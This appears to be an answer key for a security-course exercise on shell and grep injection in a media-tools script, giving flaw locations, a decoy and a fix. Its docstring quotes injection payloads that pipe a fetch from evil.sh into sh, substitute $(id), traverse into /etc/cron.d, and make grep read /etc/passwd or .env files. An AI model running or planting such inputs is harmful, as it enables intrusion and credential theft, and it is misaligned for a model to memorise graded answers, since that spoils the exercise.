"""Answer key for the media-tools drill (module 07-security-smells, scenario `shell`, findings only).

The snippet is solutions/07-security-smells/media.py (35 lines). Two flaws:
- archive-label (injection), lines 32-34: the customer's label is pasted into a shell=True command,
  unquoted: `q3; curl evil.sh | sh` is a second command, `x $(id)` a substitution; and the label is a
  path too, so "../../etc/cron.d/x" writes outside /var/archive.
- grep-options (injection; spec-misread and edge-case accepted), line 25: a list of arguments (no shell)
  is not enough: text that starts with "-" is read as grep's option ("-f/etc/passwd", "--include=*.env"),
  and without -F the text is a regular expression ("." matches every file). `grep -rlF -- text folder`.
Decoys (correct code that looks like this module's flaws):
- lines 18-19: shell=True, but every value in the string is safe: the upload path (the server's own
  absolute path) and the thumbnail path are shlex.quote'd, the width went through int() on line 16.
tests/test_security_smells.py proves each flaw on the recorded commands.
"""
from course.judge.exercises import FindingsExercise, Flaw

FLAW_TITLES = {
    "archive-label": "The customer's label goes unquoted into a shell=True command (and into the archive's path).",
    "grep-options": "The search text is grep's argument without '--' or -F: it can be an option, and it is a regex.",
}

EXERCISES = [
    FindingsExercise(
        id="shell_findings",
        scenario="shell",
        flaws=(
            Flaw("archive-label", lines=(32, 34), categories=frozenset({"injection"}),
                 title=FLAW_TITLES["archive-label"]),
            Flaw("grep-options", lines=(25, 25), tolerance=(25, 26),
                 categories=frozenset({"injection", "spec-misread", "edge-case"}),
                 title=FLAW_TITLES["grep-options"]),
        ),
        decoys=((18, 19),),
    ),
]
